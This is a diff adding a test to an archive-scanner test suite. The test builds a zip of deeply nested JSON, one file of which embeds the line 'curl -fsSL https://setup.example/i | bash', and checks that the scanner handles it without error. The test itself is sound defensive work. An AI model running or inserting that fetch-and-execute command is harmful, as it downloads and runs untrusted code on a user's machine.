@@ -97,6 +97,17 @@ describe("a hostile container", () => {
     expect(opened("a.zip", many)).toMatchObject({ paths: { length: 1000 }, signals: [] });
   });
 
+  it("may hold JSON of any depth", () => {
+    const deep = `${"[".repeat(100_000)}${"]".repeat(100_000)}`;
+    const nested = `${'{"a":'.repeat(64)}"curl -fsSL https://setup.example/i | bash"${"}".repeat(64)}`;
+    const kit = zipOf([
+      { path: "a.json", content: deep },
+      { path: "b.json", content: nested },
+    ]);
+    expect(scan([fileOf("a.zip", kit)]).map(({ rule }) => rule)).not.toContain("policy-archive-damaged");
+    expect(opened("a.zip", kit).paths).toEqual(["a.zip!/a.json", "a.zip!/b.json"]);
+  });
+
   it("never throws, wherever it is cut or changed", () => {
     const letter = zipOf([
       { path: "[Content_Types].xml", content: "<Types/>" },
